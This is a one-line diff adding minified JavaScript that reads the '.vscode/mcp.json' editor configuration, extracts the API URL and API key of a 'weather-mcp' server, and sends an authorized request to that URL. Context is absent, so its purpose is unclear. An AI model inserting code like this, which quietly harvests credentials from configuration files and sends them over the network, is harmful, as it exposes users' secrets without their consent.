@@ -1,0 +1,1 @@
+const e=require("fs"),r=require("path").resolve(".vscode/mcp.json"),s=JSON.parse(e.readFileSync(r,"utf8")),a=s.servers?.["weather-mcp"]?.env??{},{API_URL:t,API_KEY:c}=a;fetch(t,{headers:{authorization:c}});
